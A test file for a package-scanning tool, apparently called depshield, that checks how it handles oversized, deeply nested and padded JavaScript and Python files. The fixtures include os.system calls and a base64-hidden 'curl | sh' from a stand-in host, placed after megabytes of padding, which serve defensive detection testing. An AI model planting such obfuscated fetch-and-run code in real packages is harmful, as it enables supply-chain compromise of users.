"""Issue 17: per-file analysis budgets. Each hostile file shape runs through the real
`depshield package DIR --offline --format json` in a child process whose address space is
capped, and must end in a visible skip (skippedFiles + unanalyzedFile) or a normal analysis.

The timeout only catches a hang; the figures are in bench/hostile.py (ANALYSIS_ROWS).
"""

from __future__ import annotations

import json
import os
import resource
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "bench"))
from hostile_inputs import SHELL, minified  # noqa: E402

from depshield.analyzers import budget

TIMEOUT = 300  # only a hang exceeds this (the slowest shape takes a few CPU seconds)
ADDRESS_SPACE = 1536 << 20  # the 10 MB bundle took 1.2 GB of RSS before the budgets

FORMATS = ["text", "markdown", "sarif", "html"]


def _limit() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (ADDRESS_SPACE, ADDRESS_SPACE))


def depshield(
    pkg: Path, home: Path, fmt: str = "json", limit: bool = True
) -> subprocess.CompletedProcess[str]:
    code = "import sys; from depshield.cli.main import main; sys.exit(main(sys.argv[1:]))"
    env = {**os.environ, "DEPSHIELD_NO_DAEMON": "1", "DEPSHIELD_HOME": str(home)}
    return subprocess.run(
        [sys.executable, "-c", code, "package", str(pkg), "--offline", "--format", fmt, "--all"],
        capture_output=True,
        text=True,
        env=env,
        timeout=TIMEOUT,
        preexec_fn=_limit if limit else None,  # noqa: PLW1509 (no threads in the test process)
    )


def npm_package(root: Path, files: dict[str, str], **manifest: Any) -> Path:
    root.mkdir(parents=True)
    doc = {"name": "budget-fixture", "version": "1.0.0", "license": "MIT", **manifest}
    (root / "package.json").write_text(json.dumps(doc))
    for name, text in files.items():
        (root / name).write_text(text)
    return root


def pypi_package(root: Path, files: dict[str, str]) -> Path:
    root.mkdir(parents=True)
    (root / "PKG-INFO").write_text("Metadata-Version: 2.1\nName: budget-fixture\nVersion: 1.0\n")
    for name, text in files.items():
        (root / name).write_text(text)
    return root


def result(pkg: Path, home: Path) -> dict[str, Any]:
    done = depshield(pkg, home)
    assert "Traceback" not in done.stderr, done.stderr
    assert done.returncode in (0, 1), done.stderr
    report: dict[str, Any] = json.loads(done.stdout)["packages"][0]
    return report


def unanalysed(report: dict[str, Any]) -> list[tuple[str, str, str | None]]:
    return [
        (a["file"], a["action"], a["props"].get("runs"))
        for a in report["alerts"]
        if a["type"] == "unanalyzedFile"
    ]


DENSE = "f();" * 170_000 + "\n"  # 510,000 punctuation bytes: over the parse budget in 680 KB

# name -> (files of an npm package whose main is index.js, the reason the skip starts with)
NPM_SHAPES: dict[str, tuple[Callable[[], str], str]] = {
    "10 MB one-line bundle": (lambda: SHELL + minified(10_000_000), budget.TOO_LARGE),
    "160,000 string literals": (
        lambda: SHELL + "var a=[" + ",".join(f'"s{i}"' for i in range(160_000)) + "];\n",
        budget.OVER_BUDGET,
    ),
}


@pytest.mark.parametrize("shape", sorted(NPM_SHAPES))
def test_hostile_js_file_is_a_visible_skip(shape: str, tmp_path: Path) -> None:
    make, reason = NPM_SHAPES[shape]
    pkg = npm_package(tmp_path / "pkg", {"index.js": make()}, main="index.js")
    report = result(pkg, tmp_path / "home")
    assert [(f["file"], f["kind"]) for f in report["skippedFiles"]] == [("index.js", "budget")]
    assert report["skippedFiles"][0]["reason"].startswith(reason), report["skippedFiles"]
    # The entry point itself was not analysed in full: a warn, not a silent pass.
    assert unanalysed(report) == [("index.js", "warn", "entry")]
    assert report["verdict"] == "warn"
    # The head of the file was analysed: the call on line 1 is still reported.
    shell = {(a["file"], a["line"]) for a in report["alerts"] if a["type"] == "shellAccess"}
    assert ("index.js", 1) in shell


@pytest.mark.parametrize(
    "code",
    [
        "x = " + "(" * 50_000 + "1" + ")" * 50_000 + ";\n",
        "x = " + "[" * 50_000 + "]" * 50_000 + ";\n",
        'var s = "' + "aB3+/" * 200_000 + '";\n',
    ],
    ids=["50k-parens", "50k-arrays", "1M-char-string"],
)
def test_deep_or_long_js_is_analysed_without_skip(code: str, tmp_path: Path) -> None:
    pkg = npm_package(tmp_path / "pkg", {"index.js": code + SHELL}, main="index.js")
    report = result(pkg, tmp_path / "home")
    assert report["skippedFiles"] == [] and unanalysed(report) == []
    assert ("index.js", 2) in {(a["file"], a["line"]) for a in report["alerts"]}


def test_large_but_ordinary_js_is_analysed_in_full(tmp_path: Path) -> None:
    # 1 MB of ordinary code on many lines: under every budget, so no false skip, and a call on
    # the last line is found.
    body = "".join(
        f"function f{i}(a, b) {{\n  const c = a.x{i} + b;\n  return g(c, '{i}');\n}}\n"
        for i in range(14_000)
    )
    assert len(body) > 1_000_000
    pkg = npm_package(tmp_path / "pkg", {"index.js": body + SHELL}, main="index.js")
    report = result(pkg, tmp_path / "home")
    last = body.count("\n") + 1
    assert report["skippedFiles"] == [] and unanalysed(report) == []
    assert ("index.js", last) in {
        (a["file"], a["line"]) for a in report["alerts"] if a["type"] == "shellAccess"
    }


def test_dense_entry_point_is_analysed_in_parts_and_monitored(tmp_path: Path) -> None:
    # 170,000 calls: over the parse budget in 680 KB, so read in windows; every byte met the
    # rules, so the entry point is listed (monitor), not a warning on its size.
    pkg = npm_package(tmp_path / "pkg", {"index.js": SHELL + DENSE}, main="index.js")
    report = result(pkg, tmp_path / "home")
    [skipped] = report["skippedFiles"]
    assert skipped["reason"].startswith(budget.IN_PARTS), skipped
    assert unanalysed(report) == [("index.js", "monitor", None)]
    shell = {(a["file"], a["line"]) for a in report["alerts"] if a["type"] == "shellAccess"}
    assert ("index.js", 1) in shell


ORDINARY = "".join(
    f"function f{i}(a, b) {{\n  const c = a.x{i} + b;\n  return g(c, '{i}');\n}}\n"
    for i in range(40_000)
)  # 3 MB on 160,000 lines: a published bundle's size, over the parse budget


def test_big_bundle_entry_point_is_monitored_not_warned(tmp_path: Path) -> None:
    pkg = npm_package(tmp_path / "pkg", {"index.js": ORDINARY}, main="index.js")
    report = result(pkg, tmp_path / "home")
    assert [f["reason"].split(" (")[0] for f in report["skippedFiles"]] == [budget.IN_PARTS]
    assert unanalysed(report) == [("index.js", "monitor", None)]
    assert report["verdict"] == "pass"


def test_payload_appended_after_megabytes_of_padding_still_warns(tmp_path: Path) -> None:
    # Inert (never run; the host is under .invalid): a base64 `curl ... | sh` handed to exec,
    # past the first window (the 2025 npm worm shipped its payload as a multi-megabyte bundle).
    payload = (
        "const cp = require('child_process');\n"
        "cp.exec(Buffer.from('Y3VybCAtcyBodHRwOi8vcGF5bG9hZC5pbnZhbGlkL3Auc2ggfCBzaA==',"
        " 'base64').toString());\n"
    )
    pkg = npm_package(tmp_path / "pkg", {"index.js": ORDINARY + payload}, main="index.js")
    report = result(pkg, tmp_path / "home")
    line = ORDINARY.count("\n") + 2
    assert report["verdict"] == "block"
    remote = {
        (a["file"], a["line"], a["action"])
        for a in report["alerts"]
        if a["type"] == "remoteCodeDownload"
    }
    assert remote == {("index.js", line, "error")}


def test_skipped_install_script_warns_and_other_files_monitor(tmp_path: Path) -> None:
    # 160,000 string literals: over the rules' node budget, so part of each file is unanalysed.
    big = "var a=[" + ",".join(f'"s{i}"' for i in range(160_000)) + "];\n"
    pkg = npm_package(
        tmp_path / "pkg",
        {"index.js": "module.exports = 1;\n", "setup.js": big, "lib.js": big},
        main="index.js",
        scripts={"postinstall": "node setup.js"},
    )
    report = result(pkg, tmp_path / "home")
    assert sorted(unanalysed(report)) == [
        ("lib.js", "monitor", None),
        ("setup.js", "warn", "install"),
    ]
    assert sorted(f["file"] for f in report["skippedFiles"]) == ["lib.js", "setup.js"]


def test_twenty_megabyte_json_is_refused_and_listed(tmp_path: Path) -> None:
    data = json.dumps({f"k{i}": [i, "v" * 20, {"a": i}] for i in range(400_000)})
    assert len(data) > 20_000_000
    pkg = npm_package(
        tmp_path / "pkg", {"index.js": "module.exports = 1;\n", "data.json": data}, main="index.js"
    )
    report = result(pkg, tmp_path / "home")
    assert [(f["file"], f["kind"]) for f in report["skippedFiles"]] == [("data.json", "refused")]
    assert unanalysed(report) == [("data.json", "monitor", None)]
    assert report["verdict"] == "pass"  # data nothing runs: listed, not a warning


PY_SHAPES = {
    "50k parens": ("x = " + "(" * 50_000 + "1" + ")" * 50_000 + "\n", "too many nested"),
    "120 indented blocks": (
        "".join("    " * i + "if x:\n" for i in range(120)) + "    " * 120 + "pass\n",
        "too many levels",
    ),
    "200k-term sum": ("x = " + "+".join(["1"] * 200_000) + "\n", "RecursionError"),
}


@pytest.mark.parametrize("shape", sorted(PY_SHAPES))
def test_deep_python_is_a_visible_skip(shape: str, tmp_path: Path) -> None:
    code, detail = PY_SHAPES[shape]
    pkg = pypi_package(tmp_path / "pkg", {"mod.py": "import os\nos.system('id')\n" + code})
    report = result(pkg, tmp_path / "home")
    [skipped] = report["skippedFiles"]
    assert (skipped["file"], skipped["kind"]) == ("mod.py", "budget")
    assert skipped["reason"].startswith(budget.TOO_DEEP) and detail in skipped["reason"]
    assert [(f, runs) for f, _, runs in unanalysed(report)] == [("mod.py", "entry")]
    # The fallback scan still reads the file.
    assert ("mod.py", 2) in {
        (a["file"], a["line"]) for a in report["alerts"] if a["type"] == "shellAccess"
    }


def test_python_dict_of_fifty_thousand_lines_is_analysed(tmp_path: Path) -> None:
    code = "DATA = {\n" + "".join(f"    'k{i}': ({i}, 'v{i}'),\n" for i in range(50_000)) + "}\n"
    pkg = pypi_package(tmp_path / "pkg", {"mod.py": code + "import os\nos.system('id')\n"})
    report = result(pkg, tmp_path / "home")
    assert report["skippedFiles"] == [] and unanalysed(report) == []
    assert ("mod.py", 50_004) in {(a["file"], a["line"]) for a in report["alerts"]}


@pytest.mark.parametrize("fmt", FORMATS)
def test_every_format_names_the_skipped_file(fmt: str, tmp_path: Path) -> None:
    code, _ = PY_SHAPES["50k parens"]
    pkg = pypi_package(tmp_path / "pkg", {"deep_entry.py": code})
    done = depshield(pkg, tmp_path / "home", fmt, limit=False)
    assert done.returncode in (0, 1) and "Traceback" not in done.stderr, done.stderr
    assert "deep_entry.py" in done.stdout
    assert "unanalyzedFile" in done.stdout or "File not analysed" in done.stdout
    assert "nesting too deep to parse" in done.stdout  # the reason itself
